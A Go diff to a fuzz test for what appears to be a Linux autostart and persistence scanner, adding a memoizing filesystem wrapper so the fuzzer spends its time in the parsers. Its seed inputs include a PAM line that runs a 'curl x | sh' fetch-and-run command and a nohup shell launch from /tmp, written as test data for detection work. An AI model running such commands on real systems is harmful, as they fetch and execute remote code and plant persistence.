@@ -1,10 +1,14 @@
 package linux
 
 import (
+	"io/fs"
 	"path"
 	"reflect"
 	"strings"
+	"sync"
 	"testing"
+
+	"github.com/snapscan/snapscan/fsread"
 )
 
 // FuzzAutostartParsers: the command splitter, target resolver, PAM parser
@@ -14,7 +18,9 @@ func FuzzAutostartParsers(f *testing.F) {
 	f.Add("sh -c 'cd /opt/x && ./run' ; nohup bash /tmp/a.sh & . /etc/default/x")
 	f.Add("auth [success=1 default=ignore] pam_exec.so quiet /bin/sh -c \"curl x | sh\"\n@include common-auth\n")
 	f.Add(dropperCases[0].text)
-	fsys := overlayWith(f, tree(f, map[string]string{"usr/local/bin/y.sh": "#!/bin/sh\n"}), "")
+	// The fixture never changes: its lookups are answered from memory, so
+	// the fuzzer spends its time in the parsers, not in lstat(2).
+	fsys := &memoFS{FS: overlayWith(f, tree(f, map[string]string{"usr/local/bin/y.sh": "#!/bin/sh\n"}), "")}
 	pathEnv := []string{"/usr/local/bin", "/usr/bin"}
 	f.Fuzz(func(t *testing.T, s string) {
 		n := lineCount([]byte(s))
@@ -55,4 +61,49 @@ func FuzzAutostartParsers(f *testing.F) {
 			t.Fatalf("scored %v with %d behaviours", sc.Scored, len(sc.Behaviours))
 		}
 	})
+}
+
+// memoFS remembers Stat, Lstat and ReadLink answers of an FS that does not
+// change.
+type memoFS struct {
+	fsread.FS
+	stat, lstat, link sync.Map
+}
+
+type memoStat struct {
+	fi  fs.FileInfo
+	err error
+}
+
+func (m *memoFS) Stat(name string) (fs.FileInfo, error) {
+	if v, ok := m.stat.Load(name); ok {
+		r := v.(memoStat)
+		return r.fi, r.err
+	}
+	fi, err := m.FS.Stat(name)
+	m.stat.Store(name, memoStat{fi, err})
+	return fi, err
+}
+
+func (m *memoFS) Lstat(name string) (fs.FileInfo, error) {
+	if v, ok := m.lstat.Load(name); ok {
+		r := v.(memoStat)
+		return r.fi, r.err
+	}
+	fi, err := m.FS.Lstat(name)
+	m.lstat.Store(name, memoStat{fi, err})
+	return fi, err
+}
+
+func (m *memoFS) ReadLink(name string) (string, error) {
+	type r struct {
+		s   string
+		err error
+	}
+	if v, ok := m.link.Load(name); ok {
+		return v.(r).s, v.(r).err
+	}
+	s, err := m.FS.ReadLink(name)
+	m.link.Store(name, r{s, err})
+	return s, err
 }
